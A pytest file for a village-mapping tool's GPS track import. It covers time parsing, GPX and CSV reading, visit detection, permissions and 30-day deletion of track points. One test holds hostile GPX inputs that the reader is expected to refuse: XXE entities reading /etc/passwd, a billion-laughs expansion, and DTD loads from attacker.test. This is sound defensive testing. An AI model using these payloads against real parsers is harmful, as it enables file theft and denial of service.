"""Tracks: hostile files are refused, work hours alone are looked at, visits come of dwell, and points are forgotten."""

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import MORNING
from test_cli import county, run
from test_sweep_flows import FIRST_TOWN, SECOND_TOWN, VIEWER, as_
from villagemap.auth import Actor, Grant, Role
from villagemap.errors import BadInputError, ConflictError, ForbiddenError, NotFoundError, TooLargeError
from villagemap.flows.campaigns.sweep_audit import audit_sweep
from villagemap.flows.campaigns.sweep_views import coverage
from villagemap.flows.campaigns.sweeps import begin_sweep, close_sweep, mark_unreachable
from villagemap.flows.campaigns.tracks import FOLDER, forget_tracks, import_track, points_of
from villagemap.flows.registry import Session
from villagemap.model import Level, Place
from villagemap.readers.tracks import TRACK_LIMITS, read_track
from villagemap.settings import TIME_ZONE, now
from villagemap.sweeps import Outcome
from villagemap.texts import LANGS

__all__ = ["county"]

YESTERDAY = now().astimezone(TIME_ZONE).date() - timedelta(days=1)
EAST, MIDDLE = (111.15, 20.65), (111.15, 20.75)  # seats of v4 and v5
KOSOVO = Path(__file__).parents[2] / "shared" / "data" / "issues" / "kosovo_tracks"


def at(hour: int, minute: int = 0, day: date = YESTERDAY) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=TIME_ZONE)


def standing(where: tuple[float, float], begin: datetime, minutes: int) -> list[str]:
    """A fix each minute that trembles by a few metres."""
    fixes = [(begin + timedelta(minutes=n), round(where[0] + 0.00001 * (n % 3), 6)) for n in range(minutes + 1)]
    return [f"{lon},{where[1]},{when:%Y-%m-%d %H:%M:%S}" for when, lon in fixes]


def written(folder: Path, lines: list[str], name: str = "track.csv", header: str = "lon,lat,time") -> Path:
    path = folder / name
    path.write_text("\n".join([header, *lines]) + "\n", encoding="utf-8")
    return path


def gpx(points: str, head: str = "", root: str = "gpx") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<{root} version="1.1" creator="x"'
        f' xmlns="http://www.topografix.com/GPX/1/1"><trk><name>x</name><trkseg>{points}</trkseg></trk></{root}>'
    )


@pytest.fixture
def swept(session: Session) -> Iterator[Session]:
    """A sweep of the tiny county since two days ago; the chain holds at the end."""
    begin_sweep(session, "s", begins_on=YESTERDAY - timedelta(days=1))
    yield session
    assert session.workspace.store.verify() is None


# Reading


@pytest.mark.parametrize(
    ("word", "instant"),
    [
        ("2026-03-09T08:01:02Z", datetime(2026, 3, 9, 8, 1, 2, tzinfo=UTC)),
        ("2026-03-09T08:01:02+08:00", datetime(2026, 3, 9, 0, 1, 2, tzinfo=UTC)),
        ("2026-03-09 08:01:02", datetime(2026, 3, 9, 0, 1, 2, tzinfo=UTC)),
        ("2026/3/9 8:01", datetime(2026, 3, 9, 0, 1, tzinfo=UTC)),
        ("1773014462", datetime(2026, 3, 9, 0, 1, 2, tzinfo=UTC)),
        ("1773014462000", datetime(2026, 3, 9, 0, 1, 2, tzinfo=UTC)),
        ("", None),
        ("yesterday", None),
        ("1970-01-01T00:00:00Z", None),
        ("99999999999999999999", None),
        ("9999-12-31T23:59:59-12:00", None),
        ("0001-01-01T00:00:00+08:00", None),
    ],
)
def test_times(tmp_path: Path, word: str, instant: datetime | None):
    read = read_track(written(tmp_path, [f"111.15,20.65,{word}"]))
    expected = np.datetime64(instant.replace(tzinfo=None) if instant else None, "s")
    np.testing.assert_array_equal(read.track.time, np.array([expected]))
    assert read.untimed == (instant is None)


def test_columns_by_other_names_datum_and_bad_positions(tmp_path: Path):
    rows = ["111.1555,20.6471,2026-03-09 09:00:00", "x,20,2026-03-09 09:00:01", "nan,20,"]
    read = read_track(written(tmp_path, rows, header="经度,纬度,定位时间"), datum="gcj02")
    assert (read.rows, read.unreadable, len(read.track.lon)) == (3, 2, 1)
    assert abs(read.track.lon[0] - 111.15) < 0.001 < abs(read.track.lon[0] - 111.1555)
    for header, rows, code in (
        ("a,b,c", ["1,2,3"], "track_columns"),
        ("lon,lat,time", ["x,y,z"], "track_empty"),
        ("lon,lat,time", [], "track_empty"),
    ):
        with pytest.raises(BadInputError) as refused:
            read_track(written(tmp_path, rows, header=header))
        assert refused.value.code == code
        assert all(refused.value.sentence(lang) for lang in LANGS)


def test_a_gpx(tmp_path: Path):
    path = tmp_path / "track.gpx"
    path.write_text(
        gpx(
            '<trkpt lat="20.65" lon="111.15"><ele>3</ele><time>2026-03-09T01:00:00Z</time></trkpt>\n'
            '<trkpt lat="20.66" lon="111.16"><extensions><a><time>1999</time></a></extensions></trkpt>'
        ).replace("<trk>", '<wpt lat="1" lon="2"/><trk>'),
        encoding="utf-8",
    )
    read = read_track(path, datum="gcj02")  # a GPX is in WGS 84 whatever is said
    assert (read.track.lon.tolist(), read.track.lat.tolist()) == ([111.15, 111.16], [20.65, 20.66])
    assert (read.rows, read.untimed) == (2, 1)
    assert read.track.time[0] == np.datetime64("2026-03-09T01:00:00")


LAUGHS = '<!DOCTYPE gpx [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
POINT = '<trkpt lat="20.65" lon="111.15"/>'


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (gpx("<trkpt lat='1' lon='2'><time>&x;</time></trkpt>", '<!DOCTYPE gpx [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
         "gpx_doctype"),
        (gpx(POINT, LAUGHS), "gpx_doctype"),
        (gpx(POINT, '<!DOCTYPE gpx SYSTEM "http://attacker.test/x.dtd">'), "gpx_doctype"),
        (gpx(POINT, '<!DOCTYPE gpx [<!ENTITY % p SYSTEM "http://attacker.test/x">%p;]>'), "gpx_doctype"),
        (gpx(POINT, root="kml"), "gpx_other"),
        (gpx("<a>" * 500 + "</a>" * 500), "gpx_other"),
        (gpx(POINT)[:-20], "gpx_broken"),
        (gpx("<trkpt lat='&undeclared;' lon='2'/>"), "gpx_broken"),
        (gpx(""), "track_empty"),
        ("lon,lat\n1,2\n", "file_content_differs"),
        ("", "file_empty"),
    ],
)  # fmt: skip
def test_hostile_and_broken_gpx(tmp_path: Path, content: str, code: str):
    path = tmp_path / "track.gpx"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(BadInputError) as refused:
        read_track(path)
    assert refused.value.code == code
    assert all("track.gpx" in refused.value.sentence(lang) for lang in LANGS)


def test_a_gpx_is_no_table_of_issues_and_a_shapefile_no_track(tmp_path: Path):
    from villagemap.readers.sandbox import open_table

    path = tmp_path / "track.gpx"
    path.write_text(gpx(POINT), encoding="utf-8")
    with pytest.raises(BadInputError, match="can't be read"), open_table(path):
        pass
    with pytest.raises(BadInputError, match="gpx"):
        read_track(path.rename(tmp_path / "track.geojson"))
    with pytest.raises(NotFoundError):
        read_track(tmp_path / "nothing.gpx")


def test_more_fixes_than_we_read(tmp_path: Path):
    with pytest.raises(TooLargeError):
        read_track(written(tmp_path, ["1,2,"] * 20), limits=replace(TRACK_LIMITS, rows=10))


# Visits


def test_dwell_makes_a_visit_and_passing_none(swept: Session, tmp_path: Path) -> None:
    path = written(tmp_path, [*standing(EAST, at(9), 10), *standing(MIDDLE, at(11), 2)])
    report = import_track(swept, path, "s")
    assert [line.place_id for line in report.visits] == ["v4"]
    assert report.visits[0].proofs[0].dwell_s == 600
    assert report.visits[0].at == at(9)
    assert [(p.place.place_id, p.order, p.dwell_s) for p in report.passed] == [("v5", 2, 120.0)]
    assert (report.rows, report.within, report.left_out, report.timed) == (14, 14, 0, True)
    assert report.points_until == YESTERDAY + timedelta(days=30)
    assert coverage(swept, "s").places[0].outcome is Outcome.VISITED_CLEAN


def test_the_same_file_again_changes_nothing(swept: Session, tmp_path: Path) -> None:
    path = written(tmp_path, standing(EAST, at(9), 10))
    first = import_track(swept, path, "s")
    seq = swept.workspace.store.head().seq
    again = import_track(swept, path.rename(tmp_path / "other.csv"), "s")
    assert again.known
    assert again.visits == first.visits
    assert swept.workspace.store.head().seq == seq


def test_an_evening_and_the_time_before_the_sweep_are_left_out(swept: Session, tmp_path: Path) -> None:
    lines = [
        *standing(EAST, at(20), 10),
        *standing(MIDDLE, at(9, day=YESTERDAY - timedelta(days=2)), 10),
        *standing((111.15, 20.85), at(10, day=YESTERDAY + timedelta(days=9)), 10),
    ]
    report = import_track(swept, written(tmp_path, lines), "s")
    assert (report.within, report.left_out, report.visits, report.passed) == (0, 33, (), ())
    assert not (swept.workspace.folder / FOLDER).exists()


def test_without_times_there_is_an_order_and_nothing_is_kept(swept: Session, tmp_path: Path) -> None:
    path = written(tmp_path, ["111.15,20.75", "111.15,20.65", "111.15,20.65"], header="lon,lat")
    seq = swept.workspace.store.head().seq
    report = import_track(swept, path, "s")
    assert not report.timed
    assert [(p.place.place_id, p.order, p.dwell_s) for p in report.passed] == [("v5", 1, None), ("v4", 2, None)]
    assert (report.visits, report.points_until) == ((), None)
    assert swept.workspace.store.head().seq == seq
    assert not (swept.workspace.folder / FOLDER).exists()


def test_a_track_counts_only_in_ones_own_places(swept: Session, tmp_path: Path) -> None:
    path = written(tmp_path, [*standing(EAST, at(9), 10), *standing((111.25, 20.65), at(11), 10)])
    report = import_track(as_(swept, SECOND_TOWN), path, "s")
    assert ([line.place_id for line in report.visits], report.elsewhere) == (["v7"], 1)
    with pytest.raises(ForbiddenError):
        import_track(as_(swept, VIEWER), path, "s")
    begin_sweep(as_(swept, FIRST_TOWN), "theirs")
    with pytest.raises(NotFoundError):
        import_track(as_(swept, SECOND_TOWN), path, "theirs")


def test_a_closed_sweep_takes_no_track(session: Session, tmp_path: Path) -> None:
    village = as_(session, Actor("u3", (Grant(role=Role.VILLAGE_CADRE, places=("v4",)),)))
    begin_sweep(village, "a")
    mark_unreachable(village, "a", "v4", "x")
    close_sweep(village, "a")
    with pytest.raises(ConflictError):
        import_track(village, written(tmp_path, standing(EAST, at(9), 10)), "a")


# Forgetting


def test_no_event_holds_a_position_and_points_are_deleted_after_30_days(swept: Session, tmp_path: Path) -> None:
    import_track(swept, written(tmp_path, standing(EAST, at(9), 10)), "s")
    store = swept.workspace.store
    (record,) = store.records("track")
    bodies = "".join(event.body for event in store.events(record.subject))
    assert "111.15" not in bodies
    assert "20.65" not in bodies
    (file,) = (swept.workspace.folder / FOLDER).iterdir()
    assert file.stat().st_mode & 0o077 == 0
    orphan = file.with_name("left by a crash.npz.partial")
    orphan.write_bytes(b"x")
    assert forget_tracks(swept, YESTERDAY + timedelta(days=29)) == 0
    assert file.exists()
    assert not orphan.exists()
    assert points_of(swept, record) is not None
    assert points_of(swept, record, YESTERDAY + timedelta(days=30)) is None
    assert forget_tracks(swept, YESTERDAY + timedelta(days=30)) == 1
    assert not file.exists()
    (record,) = store.records("track")
    assert points_of(swept, record) is None
    assert forget_tracks(swept, YESTERDAY + timedelta(days=99)) == 0
    assert coverage(swept, "s").places[0].outcome is Outcome.VISITED_CLEAN
    with pytest.raises(ForbiddenError):
        forget_tracks(as_(swept, FIRST_TOWN))


def test_of_an_old_track_no_point_is_kept(session: Session, tmp_path: Path) -> None:
    old = YESTERDAY - timedelta(days=40)
    begin_sweep(session, "s", begins_on=old)
    report = import_track(session, written(tmp_path, standing(EAST, at(9, day=old), 10)), "s")
    assert (len(report.visits), report.points_until) == (1, None)
    assert not (session.workspace.folder / FOLDER).exists()


def test_the_next_import_deletes_what_is_over(swept: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import_track(swept, written(tmp_path, standing(EAST, at(9), 10)), "s")
    (file,) = (swept.workspace.folder / FOLDER).iterdir()
    later = now() + timedelta(days=40)
    monkeypatch.setattr("villagemap.flows.campaigns.tracks.now", lambda: later)
    import_track(swept, written(tmp_path, standing(MIDDLE, at(9), 10)), "s")
    assert not file.exists()


# The list itself


def test_the_audit_finds_what_the_list_lacks(session: Session, tmp_path: Path) -> None:
    begin_sweep(session, "s", begins_on=YESTERDAY)
    new = Place(place_id="v40", county="tiny", level=Level.VILLAGE, code="449923101299", name="新村村委会",
                short_name="新村", parent_id="t1", seat=(111.05, 20.65))  # fmt: skip
    with session.workspace.store.writing() as writer:
        writer.put_places([new], actor="owner", at=MORNING)
    assert audit_sweep(session, "s").lacking == ()
    lines = [*standing((111.05, 20.65), at(9), 10), *standing((111.02, 20.5), at(11), 10)]
    import_track(session, written(tmp_path, lines), "s")
    ledger = written(tmp_path, ["甲镇,东村", "乙镇,海边村", "乙镇,海边村"], "ledger.csv", "镇,村委会")
    found = audit_sweep(session, "s", ledgers=[ledger])
    assert [(one.name, one.town, dict(one.sources)) for one in found.lacking] == [
        ("海边村", "乙镇", {"ledger": 2}),
        ("新村村委会", "甲镇", {"track": 1}),
    ]
    assert [round(stop.dwell_s) for stop in found.stops] == [600, 600]  # neither place is on the list
    assert audit_sweep(as_(session, FIRST_TOWN), "s").stops == ()
    assert session.workspace.store.verify() is None


def test_issues_in_villages_that_arent_listed(session: Session) -> None:
    gone = replace(session.workspace.gazetteer().by_id["v5"], valid_to=date(2026, 1, 1))
    with session.workspace.store.writing() as writer:
        writer.put_places([gone], actor="owner", at=MORNING)
    begin_sweep(session, "s")
    begin_sweep(session, "other town", towns=["乙镇"])
    (lacking,) = audit_sweep(session, "s").lacking
    there = sum(issue.village_id == "v5" for issue in session.workspace.store.issues(_everything(), limit=100))
    assert (lacking.name, dict(lacking.sources)) == ("中村村委会", {"issue": there})
    assert lacking.references[0].startswith("2026-")
    assert audit_sweep(session, "other town").lacking == ()


def _everything():
    from villagemap.model import IssueFilter

    return IssueFilter()


@given(st.binary(max_size=300))
def test_no_bytes_break_the_gpx_reader(data: bytes):
    """In this process: whatever comes, it is rows or one of our errors."""
    from tempfile import TemporaryDirectory

    from villagemap.readers.gpx import read_gpx

    with TemporaryDirectory() as folder:
        path = Path(folder) / "x"
        path.write_bytes(b'<gpx><trk><trkseg><trkpt lat="1" lon="2">' + data)
        with pytest.raises(BadInputError):
            list(read_gpx(str(path), TRACK_LIMITS).rows)


@pytest.mark.real
@pytest.mark.skipif(not KOSOVO.is_dir(), reason="real data isn't here: ../shared/data")
def test_real_tracks_without_times(session: Session) -> None:
    begin_sweep(session, "s")
    for path in sorted(KOSOVO.glob("*.csv")):
        report = import_track(session, path, "s")
        assert report.rows > 2000
        assert (report.timed, report.visits, report.untimed) == (False, (), report.rows)


def test_tracks_by_command(county: Path, tmp_path: Path) -> None:
    path = written(tmp_path, standing(EAST, at(9), 10))
    words = ("--dir", str(county))
    assert run("sweep", "begin", "s", "--begins-on", YESTERDAY.isoformat(), *words).code == 0
    done = run("sweep", "track", "s", str(path), *words, "--json")
    told = json.loads(done.out)
    assert (done.code, len(told["visits"]), told["known"]) == (0, 1, False)
    again = run("sweep", "track", "s", str(path), *words)
    assert (again.code, "taken before" in again.err) == (0, True)
    bare = written(tmp_path, ["111.15,20.65", "111.15,20.75"], "bare.csv", "lon,lat")
    timeless = run("sweep", "track", "s", str(bare), *words)
    assert (timeless.code, "no times" in timeless.err, len(timeless.out.splitlines())) == (0, True, 2)
    assert run("sweep", "track", "s", str(written(tmp_path, ["a,b"], "bad.csv", "a,b")), *words).code == 3
    assert run("sweep", "audit", "s", *words).code == 0
    assert json.loads(run("sweep", "audit", "s", "--json", *words).out) == {"lacking": [], "stops": []}
    assert "0 tracks" in run("sweep", "forget-tracks", *words).err
